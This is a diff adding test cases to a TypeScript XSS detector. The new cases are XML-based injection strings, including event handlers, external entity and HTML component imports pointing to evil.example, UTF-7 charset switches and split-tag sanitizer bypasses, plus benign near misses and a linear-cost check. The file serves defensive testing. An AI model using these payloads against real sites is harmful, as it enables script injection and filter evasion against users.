@@ -54,7 +54,77 @@ const ENCODED = [
   '<sCrIpT>alert(1)</ScRiPt>',
 ]
 
+/** XML-world vectors, split-tag sanitizer bypasses and script-body ends (rule id expected). */
+const XML_ATTACKS: [string, string][] = [
+  [
+    '<page xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#run"/>',
+    'xss-event-handler',
+  ],
+  ['<listener event="activate" handler="#go" observer="btn"/>', 'xss-event-handler'],
+  ['<handler ev:event="load" type="application/ecmascript">confirm(4)</handler>', 'xss-event-handler'],
+  ['<?import namespace="v" implementation="https://evil.example/a.htc">', 'xss-active-element'],
+  ['<import namespace="m" implementation="#default#time2">', 'xss-active-element'],
+  ['<?xml-stylesheet type="text/xsl" href="evil.xsl"?><data/>', 'xss-active-element'],
+  ['<?xml-stylesheet href="#s" type="application/xml"?>', 'xss-active-element'],
+  ['<meta http-equiv="Content-Type" content="text/html;charset=UTF-7">', 'xss-meta-refresh'],
+  ['<meta charset=utf7>', 'xss-meta-refresh'],
+  ['<xsl:eval>top.open(location.hash)</xsl:eval>', 'xss-script-tag'],
+  ['<xsl:if expr="window.open(name)"></xsl:if>', 'xss-script-injection'],
+  ['<!DOCTYPE r [ <!ENTITY e PUBLIC "-//x" "https://evil.example/e.xml"> ]><r>&e;</r>', 'xss-link-import'],
+  ['<!DOCTYPE feed SYSTEM "https://evil.example/f.dtd"><feed>&payload;</feed>', 'xss-link-import'],
+  ["<?php print('<scr'); print('ipt>confirm(5)</script>'); ?>", 'xss-script-tag'],
+  ['see prompt(document.domain)</SCRIPT> here', 'xss-script-tag'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JS payload, not a template
+  ['Reflect.apply.call`${top.open}${top}${[location.hash.slice(1)]}`', 'xss-script-injection'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JS payload, not a template
+  ['x.call`${y}`', 'xss-script-injection'],
+  ['" autof<i>ocus o<i>nfocus=confirm<i>(7) x="', 'xss-attribute-breakout'],
+  ['look: o<x>nmouseover=confirm<x>(7)//', 'xss-script-injection'],
+  ['<img src=x o<b>nerror=prompt(8)>', 'xss-event-handler'],
+]
+
+/** Near misses: markup, XML and code talk that must stay allowed. */
+const XML_BENIGN = [
+  '<?xml version="1.0" encoding="UTF-8"?>',
+  '<?xml-stylesheet type="text/css" href="print.css"?>',
+  '<?php echo $title; ?>',
+  'Add <?import?> at the top, then run the build.',
+  'the <listener> element takes an event name',
+  '<div class="handler" data-event="click">Save</div>',
+  '<meta charset="utf-8"> goes first in <head>',
+  'In XSL, <xsl:if test="@id"> filters nodes; <eval> was the old IE way.',
+  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "xhtml1-strict.dtd"><p>&nbsp;</p>',
+  '<!DOCTYPE note SYSTEM "note.dtd"> then write &lt; and &amp; as usual',
+  '<!DOCTYPE svg [ <!ENTITY ns "http://www.w3.org/2000/svg"> ]><svg>&ns;</svg>',
+  'close it with </script> after the call',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JS payload, not a template
+  'use fn.call(obj, 1) or a template like `${a}` instead',
+  'Map<String,List<Integer>> m; a<b>c; x<i>y</i>z',
+  'List<string>x = new List<string>(n)',
+]
+
 describe('xss', () => {
+  it.each(XML_ATTACKS)('flags %s as %s', (s, rule) => {
+    expect(p1.first(s)?.rule).toBe(rule)
+  })
+  it.each(XML_BENIGN)('leaves near miss %s alone', (s) => {
+    expect(p1.first(s)).toBeNull()
+  })
+  it('reads long runs of the new openings to the end (linear cost)', () => {
+    const rep = (x: string) => x.repeat(Math.ceil(100_000 / x.length)).slice(0, 100_000)
+    for (const x of [
+      '<?a b=',
+      '<!doctype x system "',
+      '<!entity x system ',
+      'a<x>',
+      'a</x>(',
+      '<eval>a',
+      '.call`',
+    ])
+      expect(p1.first(rep(x))).toBeNull()
+    expect(p1.first(`${'<x ev:event=a '.repeat(7000)}ev:handler=b>`)?.rule).toBe('xss-event-handler')
+  })
+
   it.each(ATTACKS)('flags %s', (s) => {
     expect(tagOf(s)).toBe('ws-xss')
   })
